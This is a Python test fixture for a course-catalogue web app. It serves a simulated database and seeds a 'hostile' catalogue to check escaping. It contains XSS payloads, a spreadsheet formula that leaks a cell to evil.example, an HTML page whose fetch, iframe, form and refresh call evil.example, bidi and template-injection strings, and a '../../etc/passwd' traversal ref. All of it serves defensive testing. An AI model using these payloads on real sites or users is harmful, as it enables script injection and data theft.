"""The page served by a real server over a real database, filled by harvests of the imitated world and hostile words."""

from __future__ import annotations

import asyncio
import itertools
import socket
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import uvicorn
from archive_story import opened
from small_runs import Told, a_page, a_programme, a_source
from sqlalchemy import Engine, insert, select

from flows.live import due_sources, harvest_sources
from flows.measuring import take_snapshot
from flows.observatory import Observatory
from flows.serve import opened_reach
from flows.settings import Settings
from models.content import sources_in
from models.database import writing
from models.records import OrganisationRole, Page
from models.units import table
from sandbox.server import serve
from sandbox.world import World
from web.app import create_app

DAYS = tuple(datetime(2024, month, 1, tzinfo=UTC) for month in (1, 4, 7))
SOURCES = ("opensap", "coursera", "rmit_short_courses", "tartu")
HOSTILE = {
    "script": "<script>document.title='owned'</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bidi": "Safe \u202egnp.exe\u202c course",
    "template": "{{ 7*7 }} {% raw %} ${7*7}",
}
PAGE = """<!doctype html><html><head><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/r">
<link rel="preconnect" href="http://evil.example"><link rel="stylesheet" href="http://evil.example/a.css">
<script>top.document.title='owned'; fetch('http://evil.example/f')</script><style>p{background:url(http://evil.example/b.png)}</style>
</head><body onload="parent.document.title='owned'"><p>As it was read: <b>Grüße</b></p>
<img src="http://evil.example/p.png">
<iframe src="http://evil.example/i"></iframe>
<form action="http://evil.example/s"><input name="a"></form></body></html>"""


@dataclass(frozen=True)
class Served:
    """A server at ``address`` over ``database``."""

    address: str
    database: str

    def get(self, path: str) -> Answer:
        """Ask for a path; an answer that refuses is one too."""
        try:
            with urlopen(Request(self.address + path), timeout=30) as answer:
                return Answer(answer.status, dict(answer.headers), answer.read().decode())
        except HTTPError as error:
            return Answer(error.code, dict(error.headers), error.read().decode())


@dataclass(frozen=True)
class Answer:
    status: int
    headers: Mapping[str, str]
    text: str


def fill(data_dir: Path) -> None:
    """Fill an empty data directory: three harvests of four catalogues, a hostile catalogue, snapshots."""
    with serve(World(seed=5), day=DAYS[0].date()) as site, opened(data_dir, port=site.port) as observatory:
        for day in DAYS:
            site.set_day(day.date())
            sources = due_sources(observatory, SOURCES, day, retired=True)
            asyncio.run(harvest_sources(observatory, sources, as_of=day))
        hostile(observatory)
        measure(observatory)


def measure(observatory: Observatory) -> None:
    for before, day in itertools.pairwise(DAYS):
        take_snapshot(observatory, day.date(), before.date())


def copy(there: Engine, observatory: Observatory) -> None:
    """Copy a filled database into an empty one."""
    with there.connect() as connection:
        for slug in sources_in(connection):
            observatory.store.copy_source(slug, there)
        with writing(observatory.engine) as here:
            for name in ("snapshot", "trend_row"):
                rows = connection.execute(select(table(name))).mappings().all()
                here.execute(insert(table(name)), [dict(row) for row in rows])


def hostile(observatory: Observatory) -> None:
    """Tell a run of a catalogue whose words attack, with its page in the archive."""
    told = Told(observatory.engine, a_source(slug="hostile", name="Hostile <b>College</b>"))
    maker = OrganisationRole(role="awarded_by", name="<svg onload=alert(1)>", url="javascript:alert(2)")
    programmes = [
        a_programme(
            ref, title=title, url="javascript:alert(1)", description=title, organisations=(maker,),
            page_url="http://hostile.example/page", statements={"assessment": title}, verbatim={"price": title},
        )
        for ref, title in HOSTILE.items()
    ]  # fmt: skip
    refs = ("../../etc/passwd", "a b?c#d&e", "ü/ö%2F", "x//y")
    programmes += [a_programme(ref, title=f"Ref {ref}", description="Völkerkunde, 民族学入門") for ref in refs]
    with observatory.run_writer("hostile", DAYS[0]) as writer:
        pages = tuple(
            writer.page(_page(url, body, kind))
            for url, body, kind in (
                ("http://hostile.example/page", PAGE, "text/html"),
                ("http://hostile.example/data", '{"a": "<script>alert(1)</script>"}', "application/json"),
            )
        )
        writer.close({})
    told.run(DAYS[0].isoformat(), *programmes, pages=pages)


def _page(url: str, body: str, kind: str) -> Page:
    return a_page(url, body, DAYS[0], content_type=kind, place=None)


@contextmanager
def serving(data_dir: Path, database: str | None = None, *, sql: bool = False) -> Iterator[Served]:
    """Serve the page over a database on a port of its own."""
    settings = Settings(data_dir=data_dir, database_url=database, _env_file=None)
    with opened_reach(settings, sql=sql) as reach, socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        config = uvicorn.Config(create_app(reach), log_level="error", access_log=False)
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
        thread.start()
        until = time.monotonic() + 60
        while not server.started:
            assert thread.is_alive()
            assert time.monotonic() < until
            time.sleep(0.02)
        yield Served(f"http://127.0.0.1:{listening.getsockname()[1]}", settings.database)
        server.should_exit = True
        thread.join(timeout=20)
        assert not thread.is_alive()
